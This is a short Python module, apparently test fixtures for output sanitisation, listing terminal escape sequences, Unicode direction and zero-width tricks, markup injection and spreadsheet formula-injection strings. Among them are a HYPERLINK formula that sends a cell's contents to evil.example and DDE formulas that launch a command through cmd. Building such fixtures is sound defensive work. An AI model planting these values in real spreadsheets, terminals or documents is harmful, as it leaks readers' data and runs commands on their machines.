"""Texts that others could type to act on a terminal, a spreadsheet or a reader."""

ESCAPES = (
    "D-1\x1b[2Jspoof",
    "\x1b]0;title\x07D-10050",
    "D-1\u009b31mred",
    "a\x07b\x08c\x7fd",
    "D-1\r\n✗ everything is lost",
    "D-1\u2028line\u2029paragraph",
    "\u202eFDP.0118\u202c",
    "zero\u200bwidth\ufeff",
    "\x90sixel\x9c",
)
MARKUP = ("[red]D-10050[/red]", "[link=http://evil.example]here[/link]", "[/]", ":warning:")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=1+cmd|'/C calc'!A0",
    "+31201234567",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\u200b=1+1",
)
